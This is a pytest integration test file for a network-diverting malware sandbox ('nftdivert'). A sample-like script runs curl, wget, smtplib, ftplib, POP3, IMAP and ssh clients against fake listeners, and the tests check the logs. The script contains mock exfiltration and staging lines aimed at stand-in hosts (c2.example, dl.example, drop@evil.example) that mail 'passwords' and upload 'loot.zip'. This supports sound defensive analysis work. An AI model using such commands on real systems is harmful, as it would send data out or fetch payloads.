"""Recognised protocols end to end: real clients in `nftdivert sandbox`.

One sandbox runs every client, one after another, as a sample would; each
test then checks what its client got and what the log says. The queue
backend plays no part in what the listener answers: any_backend.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization

import lab
from conftest import REPO, nftdivert_argv
from nftdivert.services import certs

pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]

BIG = 5 * 1024 * 1024  # what the script sends

# The default pair, and two listeners of a protocol's kind on fixed (bound) ports.
LISTENERS = """
[[listeners]]
name = "tcp-echo"
protocol = "tcp"
port = 1337
[[listeners]]
name = "udp-echo"
protocol = "udp"
port = 1337
[[listeners]]
name = "mail"
protocol = "tcp"
port = 2526
kind = "smtp"
[[listeners]]
name = "web"
protocol = "tcp"
port = 9443
kind = "https"
"""

# $D is the work directory; every client's result lands there.
SCRIPT = r"""
cd "$D"
date +%s.%N > started
curl -sS --http1.1 --max-time 20 -o https.txt https://c2.example/next/stage.txt; echo $? > https.rc
curl -sS --max-time 20 -o http.txt http://plain.example/hello.json; echo $? > http.rc
curl -sS --max-time 20 --cacert other-ca.pem https://untrusted.example/; echo $? > untrusted.rc
python3 -c '
import requests
for name, url, verify in (("requests_https", "https://py.example/stage.json", True),
                          ("requests_http", "http://py.example/plain.txt", True),
                          ("requests_untrusted", "https://py-untrusted.example/", "other-ca.pem")):
    try:
        r = requests.get(url, timeout=20, verify=verify)
        open(name, "w").write(str(r.status_code) + " " + r.headers.get("Content-Type", ""))
    except requests.exceptions.SSLError as exc:
        open(name, "w").write("ssl error")
' 2> requests.err; echo $? > requests.rc
openssl s_client -connect c2.example:443 -servername x.example -showcerts </dev/null >s_client.txt 2>s_client.err
wget -q -T 20 -O stage2.exe http://dl.example/files/stage2.exe; echo $? > wget.rc
head -c 5242880 /dev/urandom > big.bin
curl -sS --http1.1 --max-time 60 -o /dev/null --data-binary @big.bin https://upload.example/up; echo $? > big.rc
printf 'chunk-body' | curl -sS --max-time 20 -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary @- \
    http://chunked.example/c; echo $? > chunked.rc
python3 -c '
import socket, ssl, time
def echoed(address, data, name, silent=0.0):
    s = socket.create_connection(address, timeout=10)
    time.sleep(silent)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while chunk := s.recv(4096):
        got += chunk
    open(name, "wb").write(got)
echoed(("198.51.100.7", 4444), bytes(range(256)), "echo.bin")
echoed(("198.51.100.8", 4445), b"late words", "silent.bin", silent=1.5)  # silent past [recognize] wait
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
with socket.create_connection(("203.0.113.9", 8443), timeout=10) as raw:
    with ctx.wrap_socket(raw) as tls:  # no server_hostname: no SNI
        open("nosni.der", "wb").write(tls.getpeercert(binary_form=True))
        open("nosni.port", "w").write(str(tls.getsockname()[1]))
'
python3 -c '
import smtplib
with smtplib.SMTP("mx.example", 25, timeout=15) as s:
    s.login("bot", "hunter2")
    s.sendmail("bot@victim.example", ["drop@evil.example"], MAIL)
' 2> smtp.err; echo $? > smtp.rc
python3 -c '
import smtplib, ssl
with smtplib.SMTP_SSL("smtps.example", 465, timeout=15, context=ssl.create_default_context()) as s:
    s.sendmail("a@b.example", ["c@d.example"], b"Subject: over tls\r\n\r\nhi\r\n")
' ; echo $? > smtps.rc
python3 -c '
import poplib
p = poplib.POP3("pop.example", 110, timeout=15)
p.user("popuser")
p.pass_("pop pass")
open("pop3.stat", "w").write(repr(p.stat()))
p.quit()
' ; echo $? > pop3.rc
python3 -c '
import imaplib
m = imaplib.IMAP4("imap.example", 143, timeout=15)
m.login("imapuser", "imap pass")
open("imap.select", "w").write(repr(m.select("INBOX")))
m.logout()
' ; echo $? > imap.rc
python3 -c '
import ftplib, io
f = ftplib.FTP("ftp.example", timeout=15)
f.login("ftpuser", "ftp pass")
f.storbinary("STOR loot.zip", io.BytesIO(b"PK stolen files" * 1000))
open("ftp.list", "w").write(repr(f.nlst()))
f.quit()
' 2> ftp.err; echo $? > ftp.rc
timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@c2.example true \
    </dev/null 2>ssh.err; echo $? > ssh.rc
python3 -c '
import smtplib
with smtplib.SMTP("203.0.113.20", 2526, timeout=15) as s:
    s.sendmail("fixed@b.example", ["c@d.example"], b"Subject: fixed port\r\n\r\nhi\r\n")
' ; echo $? > fixed_smtp.rc
curl -sS --max-time 20 -o fixed_https.txt https://fixed.example:9443/x.txt; echo $? > fixed_https.rc
date +%s.%N > finished
"""
MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'



@pytest.fixture(scope="module")
def run(tmp_path_factory):
    work = tmp_path_factory.mktemp("answers")
    os.chmod(work, 0o755)
    state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
    config = work / "sandbox.toml"
    config.write_text(lab.DIVERT_PATH_LINE + f'[queue]\nbackend = "{lab.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n'
                      f'uploads_dir = "{work / "uploads"}"\n' + LISTENERS)
    (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
    env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
    env.pop("SUDO_UID", None)
    proc = subprocess.run(nftdivert_argv("sandbox", "-c", str(config), "-w", str(pcap), "--timeout", "120",
                                         "--", "sh", "-c", SCRIPT),
                          capture_output=True, text=True, env=env, timeout=180)
    assert proc.returncode == 0, proc.stderr
    records = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    return work, records


def rc(work, name: str) -> int:
    return int((work / f"{name}.rc").read_text())


def tls_record(records, sni: str) -> dict:
    found = [r for r in records if r.get("event") == "tls" and r.get("sni") == sni]
    assert found, f"no TLS handshake logged for {sni}: {records}"
    return found[0]


def http_record(records, url: str) -> dict:
    found = [r for r in records if r.get("event") == "http" and r.get("url") == url]
    assert found, f"no HTTP request logged for {url}: {records}"
    return found[0]


def test_https_with_the_ca_trusted_gets_the_body_and_the_request_is_logged(run):
    work, records = run
    assert rc(work, "https") == 0 and (work / "https.txt").read_bytes() == b"ok\n"
    hello = tls_record(records, "c2.example")
    assert hello["result"] == "ok" and hello["version"] in ("TLSv1.2", "TLSv1.3")
    assert "http/1.1" in hello["alpn_offered"] and hello["alpn"] == "http/1.1"
    req = http_record(records, "https://c2.example/next/stage.txt")
    assert req["method"] == "GET" and req["status"] == 200 and req["client"] == hello["client"]
    assert ["Host", "c2.example"] in req["headers"]
    # The conversation log names the same client, with the destination it asked for.
    assert req["original_destination"] == hello["original_destination"]
    conv = [r for r in records if r.get("client") == req["client"] and "protocol" in r]
    assert conv and conv[0]["original_destination"].endswith(":443") and conv[0]["name"] == "c2.example"


def test_python_requests_trusts_the_ca_through_the_sandbox_and_is_logged(run):
    work, records = run
    assert rc(work, "requests") == 0, (work / "requests.err").read_text()
    assert (work / "requests_https").read_text() == "200 application/json"
    assert (work / "requests_http").read_text().startswith("200 text/plain")
    assert http_record(records, "https://py.example/stage.json")["method"] == "GET"
    assert http_record(records, "http://py.example/plain.txt")["status"] == 200
    # Another CA than ours: the handshake fails, and the SNI is logged all the same.
    assert (work / "requests_untrusted").read_text() == "ssl error"
    assert tls_record(records, "py-untrusted.example")["result"] == "failed"


def test_plain_http_gets_the_file_type_asked_for(run):
    work, records = run
    assert rc(work, "http") == 0 and json.loads((work / "http.txt").read_text()) == {}
    assert http_record(records, "http://plain.example/hello.json")["status"] == 200


def test_an_untrusted_ca_fails_the_handshake_and_the_sni_is_still_logged(run):
    work, records = run
    assert rc(work, "untrusted") == 60  # curl: the peer's certificate cannot be verified
    hello = tls_record(records, "untrusted.example")
    assert hello["result"] == "failed" and "UNKNOWN_CA" in hello["error"].upper()
    assert not [r for r in records if r.get("event") == "http" and "untrusted.example" in r.get("url", "")]


def test_s_client_gets_a_certificate_for_the_sni_that_chains_to_the_ca(run):
    work, records = run
    out = (work / "s_client.txt").read_text()
    pems = re.findall(r"-----BEGIN CERTIFICATE-----.+?-----END CERTIFICATE-----\n", out, re.S)
    assert pems, out
    leaf = x509.load_pem_x509_certificate(pems[0].encode())
    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert names.get_values_for_type(x509.DNSName) == ["x.example"]
    (work / "leaf.pem").write_text(pems[0])
    ca = work / "state" / "ca.pem"
    verify = subprocess.run(["openssl", "verify", "-CAfile", str(ca), "-verify_hostname", "x.example",
                             str(work / "leaf.pem")], capture_output=True, text=True)
    assert verify.returncode == 0 and verify.stdout.strip().endswith(": OK"), verify.stdout + verify.stderr
    assert "Verify return code: 0 (ok)" in out  # the sandbox's /etc/ssl bundle holds the CA
    assert tls_record(records, "x.example")["result"] == "ok"


def test_the_state_directory_is_private(run):
    work, _ = run
    assert (work / "state").stat().st_mode & 0o777 == 0o700
    assert (work / "state" / "ca.key").stat().st_mode & 0o777 == 0o600
    key = serialization.load_pem_private_key((work / "state" / "ca.key").read_bytes(), None)
    ca = x509.load_pem_x509_certificate((work / "state" / "ca.pem").read_bytes())
    assert key.public_key().public_numbers() == ca.public_key().public_numbers()


def test_wget_of_an_exe_gets_a_pe_file(run):
    work, records = run
    assert rc(work, "wget") == 0
    data = (work / "stage2.exe").read_bytes()
    assert data[:2] == b"MZ"
    pe_at = int.from_bytes(data[0x3C:0x40], "little")
    assert data[pe_at:pe_at + 4] == b"PE\0\0" and int.from_bytes(data[pe_at + 4:pe_at + 6], "little") == 0x14C
    assert http_record(records, "http://dl.example/files/stage2.exe")["headers"][0][0] == "Host"


def test_a_5_mb_post_is_read_whole_stored_and_hashed(run):
    work, records = run
    assert rc(work, "big") == 0
    sent = (work / "big.bin").read_bytes()
    digest = hashlib.sha256(sent).hexdigest()
    req = http_record(records, "https://upload.example/up")
    assert req["method"] == "POST" and req["body_size"] == BIG and req["body_sha256"] == digest
    assert ["Expect", "100-continue"] in req["headers"]  # curl asks for it above 1 MiB
    assert req["body_saved"] == str(work / "bodies" / digest)
    assert hashlib.sha256((work / "bodies" / digest).read_bytes()).hexdigest() == digest


def test_a_chunked_body_is_read_whole(run):
    work, records = run
    assert rc(work, "chunked") == 0
    req = http_record(records, "http://chunked.example/c")
    assert req["body_size"] == len(b"chunk-body")
    assert req["body_sha256"] == hashlib.sha256(b"chunk-body").hexdigest()


def test_an_unknown_binary_protocol_is_echoed(run):
    work, records = run
    assert (work / "echo.bin").read_bytes() == bytes(range(256))
    assert not [r for r in records if r.get("event") in ("tls", "http") and "4444" in r.get("url", "")]


def test_the_capture_and_the_key_log_decrypt_to_the_https_request(run):
    work, _ = run
    assert (work / "keys.log").read_text().count("CLIENT_TRAFFIC_SECRET_0") >= 3
    out = subprocess.run(["tshark", "-n", "-r", str(work / "capture.pcap"), "-o",
                          f"tls.keylog_file:{work / 'keys.log'}", "-Y", "http.request", "-T", "fields",
                          "-e", "http.host", "-e", "http.request.uri"],
                         capture_output=True, text=True, timeout=120)
    assert "c2.example\t/next/stage.txt" in out.stdout, out.stdout + out.stderr


def test_a_client_hello_without_sni_gets_a_leaf_for_the_address_it_asked_for(run):
    work, records = run
    leaf = x509.load_der_x509_certificate((work / "nosni.der").read_bytes())
    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert [str(ip) for ip in names.get_values_for_type(x509.IPAddress)] == ["203.0.113.9"]
    port = (work / "nosni.port").read_text()
    hello = [r for r in records if r.get("event") == "tls" and r["client"].endswith(f":{port}")]
    assert hello and "sni" not in hello[0] and hello[0]["original_destination"] == "203.0.113.9:8443", records


def test_a_silent_client_on_a_port_without_a_server_first_protocol_gets_the_echo(run):
    work, _ = run
    assert (work / "silent.bin").read_bytes() == b"late words"


def records_of(records, event: str) -> list[dict]:
    return [r for r in records if r.get("event") == event]


def test_smtplib_logs_in_and_its_mail_is_stored_and_logged(run):
    work, records = run
    assert rc(work, "smtp") == 0, (work / "smtp.err").read_text()
    auth = records_of(records, "smtp_auth")
    assert auth and auth[0]["user"] == "bot" and auth[0]["password"] == "hunter2", records
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "bot@victim.example"]
    assert mail and mail[0]["rcpt_to"] == ["drop@evil.example"] and ["Subject", "loot"] in mail[0]["headers"]
    assert mail[0]["original_destination"].endswith(":25") and mail[0]["v"] >= 1
    assert mail[0]["name"] == "mx.example"  # the DNS name the address stood for, joined
    stored = (work / "mail" / (mail[0]["sha256"] + ".eml")).read_bytes()
    assert mail[0]["saved"] == str(work / "mail" / (mail[0]["sha256"] + ".eml"))
    assert stored.replace(b"\r\n", b"\n") == MAIL.replace(b"\r\n", b"\n")


def test_smtp_over_implicit_tls_on_465_is_smtp_inside(run):
    work, records = run
    assert rc(work, "smtps") == 0
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "a@b.example"]
    assert mail and mail[0]["original_destination"].endswith(":465")
    assert tls_record(records, "smtps.example")["result"] == "ok"


def test_pop3_login_is_logged_and_the_mailbox_holds_the_neutral_message(run):
    work, records = run
    assert rc(work, "pop3") == 0 and (work / "pop3.stat").read_text().startswith("(1, ")
    login = records_of(records, "pop3")
    assert login and login[0]["user"] == "popuser" and login[0]["password"] == "pop pass"
    assert login[0]["original_destination"].endswith(":110")


def test_imap_login_is_logged_and_the_inbox_holds_the_neutral_message(run):
    work, records = run
    assert rc(work, "imap") == 0 and (work / "imap.select").read_text() == "('OK', [b'1'])"
    login = records_of(records, "imap")
    assert login and login[0]["user"] == "imapuser" and login[0]["password"] == "imap pass"


def test_ssh_in_batch_mode_exits_within_5_s_with_the_banner_logged(run):
    work, records = run
    err = (work / "ssh.err").read_text()
    assert rc(work, "ssh") == 255 and "Permission denied" in err, err  # not 124: timeout(1) did not kill it
    assert "remote software version OpenSSH_9.2p1" in err
    rec = records_of(records, "ssh")
    assert rec and rec[0]["client_version"].startswith("SSH-2.0-OpenSSH") and rec[0]["logins"] == []
    assert rec[0]["original_destination"].endswith(":22")


def test_ftplib_logs_in_and_uploads_a_file_that_is_kept(run):
    work, records = run
    assert rc(work, "ftp") == 0, (work / "ftp.err").read_text()
    assert "update.exe" in (work / "ftp.list").read_text()  # the tree every directory shows
    login = records_of(records, "ftp")
    assert login and login[0]["user"] == "ftpuser" and login[0]["password"] == "ftp pass"
    assert login[0]["original_destination"].endswith(":21")
    (up,) = records_of(records, "ftp_upload")
    sent = b"PK stolen files" * 1000
    assert up["name"] == "loot.zip" and up["size"] == len(sent) and up["sha256"] == hashlib.sha256(sent).hexdigest()
    assert (work / "uploads" / up["sha256"]).read_bytes() == sent


def test_every_client_of_the_sample_like_script_finished_within_30_s(run):
    work, _ = run
    took = float((work / "finished").read_text()) - float((work / "started").read_text())
    assert took < 30, f"the clients took {took:.1f} s"


def test_listeners_of_a_protocols_kind_speak_it_on_their_bound_port(run):
    work, records = run
    assert rc(work, "fixed_smtp") == 0
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "fixed@b.example"]
    # A bound port: the worker never rewrote it, conntrack still knows the address asked for.
    assert mail and mail[0]["listener"] == "mail" and mail[0]["original_destination"] == "203.0.113.20:2526"
    assert rc(work, "fixed_https") == 0 and (work / "fixed_https.txt").read_bytes() == b"ok\n"
    req = http_record(records, "https://fixed.example:9443/x.txt")
    assert req["listener"] == "web" and req["original_destination"].endswith(":9443")
